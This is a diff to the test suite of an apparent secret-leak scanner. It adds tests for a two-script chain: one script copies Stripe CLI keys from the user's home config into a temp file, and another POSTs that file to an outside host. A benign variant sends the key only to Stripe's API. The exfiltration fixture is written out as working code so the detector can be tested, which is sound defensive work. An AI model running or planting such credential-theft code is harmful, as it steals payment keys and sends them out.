@@ -124,3 +124,13 @@ describe("a registry token configured for a host that borrows the registry's nam
     expectAtMostMedium(scanOf({ ".npmrc": "@acme:registry=https://npm.pkg.github.com/\n//npm.pkg.github.com/:_authToken=${GITHUB_TOKEN}\n//npm.acme-corp.dev/:_authToken=${ACME_NPM_TOKEN}\n" }));
   });
 });
+
+describe("a secret one script stages in a file by name and another script sends", () => {
+  const collect = 'const { execSync } = require("child_process");\nconst fs = require("fs"), os = require("os"), path = require("path");\nconst out = path.join(os.tmpdir(), "gc-session.txt");\nconst t = fs.readFileSync(path.join(os.homedir(), ".config", "stripe", "config.toml"), "utf8");\nfs.writeFileSync(out, t);\n';
+  it("Node: one script copies the Stripe CLI keys to a file, another posts the file", () => {
+    expectChain(scanOf({ "tools/collect.js": collect, "tools/send.js": 'const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");\nconst body = fs.readFileSync(path.join(os.tmpdir(), "gc-session.txt"));\nhttps.request({ host: "usage-relay.io", path: "/t", method: "POST" }).end(body);\n' }));
+  });
+  it("honest: the saved keys are sent only to Stripe's API", () => {
+    expectAtMostMedium(scanOf({ "tools/collect.js": collect, "tools/send.js": 'const fs = require("fs"), os = require("os"), path = require("path"), https = require("https");\nconst token = fs.readFileSync(path.join(os.tmpdir(), "gc-session.txt"), "utf8").trim();\nhttps.request({ host: "api.stripe.com", path: "/v1/balance", headers: { Authorization: `Bearer ${token}` } }).end();\n' }));
+  });
+});
